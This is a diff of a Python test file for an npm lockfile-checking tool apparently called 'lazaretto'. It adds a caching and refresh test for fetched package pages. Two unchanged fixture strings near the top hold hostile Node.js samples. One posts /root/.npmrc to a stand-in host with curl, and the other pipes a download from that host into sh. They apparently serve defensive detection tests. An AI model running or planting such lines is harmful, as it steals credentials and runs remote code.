@@ -1,11 +1,12 @@
 """``lazaretto check`` on a project of its own: every pin is asked about or told to be unread, with its place."""
 
+import os
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from tests.surfaces.site import Machine, Site
+from tests.surfaces.site import NOW, Machine, Site
 
 EVIL = "const { exec } = require('child_process');\nexec('curl -d @/root/.npmrc https://drop.example.invalid/x');\n"
 PIPED = "require('child_process').execSync('curl https://drop.example.invalid/x | sh');\n"
@@ -31,6 +32,14 @@ def git(folder: Path, *words: str) -> None:
     subprocess.run(["git", *who, "-C", str(folder), *words], check=True, capture_output=True)
 
 
+def kept_now(machine: Machine) -> None:
+    """Let every page that is kept have come when it is now for the command line."""
+    pages = [path for path in machine.folder.rglob("*.page") if path.parent.name == "pages"]
+    assert pages
+    for path in pages:
+        os.utime(path, (NOW.timestamp() - 1, NOW.timestamp() - 1))
+
+
 def test_every_pin_is_asked_about(machine: Machine) -> None:
     """Each release once, with the line that pins it; exit code 0 if all is allowed."""
     pins = {name: ("1.0.1", machine.site.publish(name, "1.0.1")) for name in ("pad", "left", "right")}
@@ -42,6 +51,29 @@ def test_every_pin_is_asked_about(machine: Machine) -> None:
     line = line_of(folder, '"node_modules/pad"')
     assert {"purl": "pkg:npm/pad@1.0.1", "path": "package-lock.json", "line": line} in ran.report["places"]
     assert not ran.report["problems"]
+
+
+def test_pages_are_not_asked_for_again_within_minutes(machine: Machine) -> None:
+    """But for one that is older than a pin, or if the user wants it; the answers are the same."""
+    pins = {name: ("1.0.1", machine.site.publish(name, "1.0.1")) for name in ("pad", "left")}
+    folder = project(machine, machine.site.lockfile(pins))
+    asked = machine.site.server.requests
+    pages = [f"/{name}" for name in pins]
+
+    first = machine.run("check", str(folder), "--format", "json")
+    assert sorted(path for path, _ in asked if path in pages) == sorted(pages)
+    asked.clear()
+    kept_now(machine)
+    assert machine.run("check", str(folder), "--format", "json").report == first.report
+    assert not asked
+    assert machine.run("check", str(folder), "--format", "json", "--refresh").report == first.report
+    assert sorted(path for path, _ in asked if path in pages) == sorted(pages)
+    asked.clear()
+    kept_now(machine)
+    pins["pad"] = ("1.0.2", machine.site.publish("pad", "1.0.2"))
+    ran = machine.run("check", str(project(machine, machine.site.lockfile(pins))))
+    assert ran.code == 0
+    assert [path for path, _ in asked if path in pages] == ["/pad"]
 
 
 def test_a_tampered_pin_is_refused_at_its_line(machine: Machine) -> None:
